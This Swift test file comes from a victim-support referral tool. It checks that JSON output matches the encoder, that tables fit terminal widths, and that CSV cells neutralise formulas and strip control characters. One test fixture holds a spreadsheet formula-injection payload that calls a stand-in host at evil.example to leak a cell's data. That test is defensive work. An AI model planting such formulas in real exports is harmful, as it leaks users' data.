import Foundation
import SignpostCore
import SignpostImport
import SignpostMatching
import SignpostReports
import SignpostTestSupport
import Testing

@Suite("Referral JSON written directly")
struct ReferralJSONTests {
    @Test func theBytesAreTheSameDocumentAsTheEncoders() throws {
        let vocabularies = try VocabularyLoader.load(from: Fixtures.vocabularyFolder)
        var far = Fixtures.service(recordID: "WY-2", name: "Bradford \"Safe\" Space \\ Outreach")
        far.contact.hours = "Mon–Fri 09:00–17:00"
        far.contact.email = nil
        var paused = Fixtures.service(recordID: "WY-3", name: "Paused Service")
        paused.status = .paused
        let services = [Fixtures.service(recordID: "WY-1"), far, paused]
        let matcher = Matcher(
            index: MatchIndex(services: services, vocabularies: vocabularies),
            vocabularies: vocabularies
        )
        let postcode = try #require(Postcode("LS1 4AP"))
        let location = LocationResolver(vocabularies: vocabularies).resolve(
            .postcode(postcode),
            postcode: PostcodeRecord(
                postcode: postcode,
                point: GeoPoint(latitude: 53.7965, longitude: -1.5478),
                localAuthority: AreaCode("E08000035"),
                forceArea: AreaCode("E23000010")
            )
        )
        let assessment = NeedsAssessment(
            needs: [.init("domestic-abuse"), .init("stalking", isPrimary: false)],
            age: 30...30,
            gender: "female",
            language: "pl"
        )
        let today = try #require(CalendarDate(iso: "2026-11-22"))
        let document = ReferralDocument(
            matcher.match(assessment, at: location, today: today),
            wording: ReferralWording(vocabularies: vocabularies, audience: .api)
        )

        let direct = try JSONSerialization.jsonObject(with: Data(document.jsonBytes())) as? NSDictionary
        let encoded =
            try JSONSerialization.jsonObject(with: Data(try JSONOutput.encode(document).utf8)) as? NSDictionary
        let suggestions = try #require(direct?["suggestions"] as? [Any])
        #expect(suggestions.count == 2)
        #expect((direct?["excluded"] as? [Any])?.count == 1)
        #expect(direct == encoded)
    }
}

@Suite("Tables fitted to a terminal")
struct TableWidthTests {
    @Test func aWideTableIsCutAndThinnedToTheWidthButIdsAreNeverCut() {
        let table = Table(
            columns: [
                .init("id"), .init("name", minimumWidth: 12), .init("needs", minimumWidth: 10, dropOrder: 2),
                .init("verified", dropOrder: 1),
            ],
            rows: [
                [
                    "pcc-north-east-yorkshire/NEY-NAT-001", "Victims' Rights Information Line for Everyone",
                    "emotional-practical-support, violent-crime", "2026-05-01",
                ]
            ]
        )
        for width in [60, 80, 100] {
            let text = table.renderText(width: width)
            for line in text.split(separator: "\n") { #expect(line.count <= width, "\(width): \(line)") }
            #expect(text.contains("pcc-north-east-yorkshire/NEY-NAT-001"))
        }
        #expect(!table.renderText(width: 60).contains("2026-05-01"), "the first column given up")
        #expect(table.renderText(width: 200).contains("Victims' Rights Information Line for Everyone"))
    }
}

@Suite("CSV for people: formulas neutralised")
struct CSVNeutralisationTests {
    @Test func cellsASpreadsheetWouldRunAsFormulasAreShownAsText() {
        let table = Table(
            columns: [.init("name"), .init("phone"), .init("score")],
            rows: [
                [#"=HYPERLINK("http://evil.example/?leak="&A1, "click")"#, "+44 113 496 0000", "-1.5"],
                ["@SUM(A1)", "-cmd", "12"],
            ]
        )
        let csv = table.renderCSV()
        #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click"")""#))
        #expect(csv.contains("'+44 113 496 0000"))
        #expect(csv.contains(",-1.5\n"), "a plain number stays a number")
        #expect(csv.contains("'@SUM(A1),'-cmd,12"))
    }

    @Test func controlCharactersNeverReachTheTerminal() {
        let table = Table(columns: [.init("name")], rows: [["Leeds \u{1B}[31mRed\u{1B}[0m \u{7}Outreach"]])
        let text = table.renderText(width: 80)
        #expect(!text.contains("\u{1B}") && !text.contains("\u{7}"))
    }
}
